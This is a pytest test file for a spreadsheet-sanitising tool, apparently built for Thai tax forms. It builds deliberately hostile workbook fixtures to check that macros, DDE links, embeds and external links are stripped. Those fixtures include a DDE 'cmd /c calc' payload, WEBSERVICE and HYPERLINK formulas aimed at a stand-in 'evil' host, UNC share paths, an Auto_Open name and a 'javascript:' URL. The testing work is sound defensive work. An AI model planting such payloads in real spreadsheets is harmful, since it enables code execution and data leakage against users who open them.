"""Check that nothing is left in a marked copy that acts or leads outside."""

from __future__ import annotations

import re
from typing import Any

import pytest
from openpyxl.formatting.rule import Rule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from ita_xlsx.feedback.copied_links import is_web_address
from ita_xlsx.feedback.mark_copy import formulas_of, mark_copy
from ita_xlsx.feedback.own_formulas import normalize_formula
from tests.feedback.packages import IIT, LETTER, OFFICE, Change, after, changed, edited, live, opened, parts

SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "xl/worksheets/_rels/sheet3.xml.rels"
DDE = f'<externalLink xmlns="{SHEET}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
ACTING = {
    "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0",
    "xl/externalLinks/externalLink1.xml": DDE.encode(),
    "xl/connections.xml": f'<connections xmlns="{SHEET}"/>'.encode(),
    "xl/queryTables/queryTable1.xml": f'<queryTable xmlns="{SHEET}"/>'.encode(),
    "xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0",
    "xl/activeX/activeX1.xml": b"<ocx/>",
    "xl/ctrlProps/ctrlProp1.xml": b"<formControlPr/>",
    "xl/slicers/slicer1.xml": b"<slicers/>",
    "xl/threadedComments/threadedComment1.xml": b"<ThreadedComments/>",
}  # fmt: skip
LINKS = (
    '<hyperlinks><hyperlink ref="B5" r:id="l1"/><hyperlink ref="B6" r:id="l2"/><hyperlink ref="G7" r:id="l3"/>'
    '<hyperlink ref="B8" location="EIT!A1"/><hyperlink ref="B9" location="[x.xlsx]EIT!A1"/>'
    '<hyperlink ref="G9" r:id="l4"/></hyperlinks>'
)
TARGETS = ("file:///\\\\evil\\s\\x.xlsx", "https://ok.go.th/a?b=1", "\\\\evil\\share", "=cmd|'/c calc'!A1")


def acting_sheet(xml: bytes) -> bytes:
    """The sheet with links of all kinds, and with the value that its sum showed."""
    links = LINKS.replace("r:id", f'xmlns:r="{OFFICE}" r:id').encode()
    shown = re.sub(rb"(<f>SUM\(D5:D6\)</f>)<v\s*(?:/>|></v>)", rb"\1<v>157.5</v>", xml)
    return shown.replace(b"<pageMargins", links + b"<pageMargins", 1)


def hostile(form: bytes) -> bytes:
    """A form with everything in it that could act."""

    def act(book: Any) -> None:
        sheet = book["IIT"]
        sheet["G1"], sheet["G2"] = '=WEBSERVICE("http://evil/")', '=HYPERLINK("file://evil","x")'
        sheet["G3"] = "placeholder"
        sheet["G3"].value, sheet["G3"].data_type = "=1+1", "s"
        sheet["G4"] = "=SUM(D5:D6)"
        rule = DataValidation("custom", formula1='WEBSERVICE("http://evil")')
        rule.add("H1")
        sheet.add_data_validation(rule)
        looks = Rule("expression", formula=['WEBSERVICE("http://evil")=1'])
        sheet.conditional_formatting.add("H2", looks)
        for name, text in (("Auto_Open", "IIT!$A$1"), ("bad", 'CALL("x")'), ("out", "[1]x!$A$1"), ("fine", "IIT!$A$1")):
            book.defined_names[name] = DefinedName(name, attr_text=text)

    data = edited(form, act)
    ties = "".join(
        f'<Relationship Id="l{n}" Type="{OFFICE}/hyperlink" Target="{target}" TargetMode="External"/>'
        for n, target in enumerate(TARGETS, 1)
    )
    rels = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{ties}</Relationships>'
    main = b"openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    added: dict[str, Change] = {name: (lambda _, data=data: data) for name, data in ACTING.items()}  # type: ignore[misc]
    return changed(
        data,
        {
            **added,
            RELS: lambda _: rels.encode(),
            IIT: acting_sheet,
            "[Content_Types].xml": after(main, b"ms-excel.sheet.macroEnabled.main+xml"),
        },
    )


def test_nothing_that_acts_is_left(form: bytes, ours: frozenset[tuple[str, str]]) -> None:
    marked = mark_copy(hostile(form), LETTER, ours)
    content = parts(marked.data)
    allowed = r"\[Content_Types\]\.xml|_rels/\.rels|docProps/\w+\.xml|xl/\w+\.xml|xl/_rels/workbook\.xml\.rels|" + (
        r"xl/(worksheets|drawings|charts|comments|theme)/(_rels/)?\w+\.(xml|xml\.rels|vml)"
    )
    assert [name for name in content if not re.fullmatch(allowed, name)] == []
    outside = [
        found
        for xml in content.values()
        for found in re.findall(rb'<Relationship [^>]*TargetMode="External"[^>]*>', xml)
    ]
    assert len(outside) == 1
    assert b'Target="https://ok.go.th/a?b=1"' in outside[0]
    assert not [
        name for name, xml in content.items() if b"file:" in xml or b"WEBSERVICE" in xml or b"macroEnabled" in xml
    ]
    assert {(sheet, text) for sheet, _, text in live(marked.data)} <= ours


def test_without_the_list_of_ours_they_would_stay(form: bytes) -> None:
    data = hostile(form)
    assert "WEBSERVICE" in str(live(mark_copy(data, LETTER, formulas_of(data)).data))


def test_what_was_taken_out_is_said(form: bytes, ours: frozenset[tuple[str, str]]) -> None:
    told = " ".join(mark_copy(hostile(form), LETTER, ours).lost)
    for word in (
        "มาโคร", "ลิงก์ไปไฟล์อื่น 1", "การเชื่อมต่อข้อมูลภายนอก", "ไฟล์ที่ฝังไว้ 1", "ปุ่มหรือช่องควบคุม 2", "ตัวแบ่งส่วนข้อมูล", "สนทนา",
        "สูตรที่ไม่ใช่ของแบบ 3", "สูตรที่ไม่มีผลคำนวณเก็บไว้ 2", "IIT!G1, IIT!G2", "ลิงก์ 4", "ของแบบ 2 ข้อ", "3 ชื่อ",
    ):  # fmt: skip
        assert word in told


def test_foreign_cells_become_plain(form: bytes, ours: frozenset[tuple[str, str]]) -> None:
    book = opened(mark_copy(hostile(form), LETTER, ours).data)
    sheet = book["IIT"]
    assert [sheet[f"G{n}"].value for n in (1, 2, 3, 4, 7, 9)] == [None, None, "=1+1", 157.5, None, None]
    assert (sheet["G3"].data_type, sheet["G3"].quotePrefix) == ("s", True)
    assert sheet["B8"].hyperlink.location == "EIT!A1"
    assert [cell for cell in ("B5", "B9", "G7", "G9") if sheet[cell].hyperlink] == []
    assert list(book.defined_names) == ["fine"]


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("https://www.go.th/ก?x=1#y", True),
        ("http://10.0.0.1:8080/", True),
        ("HTTP://www.go.th", True),
        ("https://", False),
        ("https://user:pw@www.go.th/", False),
        ("https://www.go.th/a b", False),
        ("https://www.go.th/\u202egpj", False),
        ("https:\\\\www.go.th", False),
        ("http://[::1", False),
        ("http://a:99999/", False),
        ("ftp://www.go.th", False),
        ("file:///c:/x", False),
        ("javascript:alert(1)", False),
        ("mailto:a@b.go.th", False),
        ("//www.go.th", False),
        ("https://www.go.th/" + "x" * 2080, False),
    ],
)
def test_only_plain_web_addresses_stay_links(text: str, safe: bool) -> None:
    assert is_web_address(text) is safe


@pytest.mark.parametrize(
    ("theirs", "our_own"),
    [
        ("SUM( IIT!D5 , $D$6 )", "=SUM('IIT'!$D$5,D6)"),
        ("F12+0.000000001", "F12+1E-9"),
        ('if(A1="a  $b",1,2)', 'IF(A1="a  $b",1,2)'),
    ],
)
def test_one_formula_has_one_spelling(theirs: str, our_own: str) -> None:
    assert normalize_formula(theirs) == normalize_formula(our_own)


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("'[x.xlsx]IIT'!D5", "IIT!D5"),
        ('"a b"', '"ab"'),
        ("D5", "D6"),
        ('"A"', '"a"'),
        ("1.5", "15"),
        ("A1:B2", "A1,B2"),
    ],
)
def test_other_formulas_have_other_spellings(one: str, other: str) -> None:
    assert normalize_formula(one) != normalize_formula(other)
